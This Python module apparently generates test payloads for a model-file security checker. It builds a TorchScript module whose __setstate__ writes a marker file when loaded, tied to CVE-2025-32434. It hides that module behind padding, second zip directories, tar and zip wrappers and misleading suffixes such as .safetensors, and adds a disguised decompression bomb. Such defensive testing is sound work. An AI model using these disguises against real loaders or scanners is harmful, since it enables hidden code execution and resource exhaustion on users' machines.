"""TorchScript in files that should be weights: its `__setstate__` writes a file when it is loaded (issue 15.2)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator

from hostile.payload import Case, Payload
from hostile.payloads.containers import STORAGE, benign, tarred, two_directories, zipped

__all__ = ["payloads"]

_SHOWN = [
    ("archive/data.pkl", benign()),
    ("archive/byteorder", b"little"),
    ("archive/data/0", STORAGE),
    ("archive/version", b"3\n"),
]


def _script(case: Case) -> bytes:
    """A module that saves a tensor to the marker when it is loaded."""
    import torch

    class Writes(torch.nn.Module):
        def __init__(self, path: str) -> None:
            super().__init__()
            self.path = path

        @torch.jit.export
        def __getstate__(self) -> tuple[str, bool]:
            return self.path, self.training

        @torch.jit.export
        def __setstate__(self, state: tuple[str, bool]) -> None:
            self.path, self.training = state
            torch.save(torch.ones(1), self.path)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x

    out = io.BytesIO()
    torch.jit.save(torch.jit.script(Writes(str(case.marker))), out)
    case.marker.unlink(missing_ok=True)
    return out.getvalue()


def _bomb(_: Case) -> bytes:
    """Weights that are a bomb, behind weights that are none."""
    big = bytes(512 << 20)
    state = benign().replace(b"J\xd8\0\0\0", b"J" + (128 << 20).to_bytes(4, "little"))
    padding = [(f"archive/{'long' * 20}/{number}", bytes(2000)) for number in range(4)]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in [*padding, ("archive/data.pkl", state), ("archive/version", b"3\n")]:
            archive.writestr(name, data)
        archive.writestr(zipfile.ZipInfo("archive/data/0"), big, zipfile.ZIP_DEFLATED)
    return two_directories(_SHOWN, out.getvalue())


_FORMS: dict[str, Callable[[Case], bytes]] = {
    "plain": _script,
    "behind bytes": lambda c: bytes(64) + _script(c),
    "before bytes": lambda c: _script(c) + bytes(64),
    "behind a second directory": lambda c: two_directories(_SHOWN, _script(c)),
    "behind a second directory and a comment": lambda c: two_directories(_SHOWN, _script(c))[:-2] + b"\4\0zq7x",
    "in a tar": lambda c: tarred([("m.pt", _script(c))]),
    "behind a second directory in a tar": lambda c: tarred([("m.pt", two_directories(_SHOWN, _script(c)))]),
    "in a zip": lambda c: zipped([("archive/data.pkl", _script(c)), ("archive/version", b"3\n")]),
    "cut": lambda c: _script(c)[:-10],
    "a bomb behind a second directory": _bomb,
}


def payloads() -> Iterator[Payload]:
    """Every form under every name."""
    for name, make in _FORMS.items():
        for suffix in (".pt", ".pth", ".ckpt", ".bin", ".tar", ".safetensors"):

            def write(case: Case, make: Callable[[Case], bytes] = make, suffix: str = suffix) -> None:
                (case.folder / f"m{suffix}").write_bytes(make(case))

            yield Payload(
                "script", f"{name}, {suffix}", "issue 15.2, CVE-2025-32434: torch.jit.load", write, f"m{suffix}"
            )
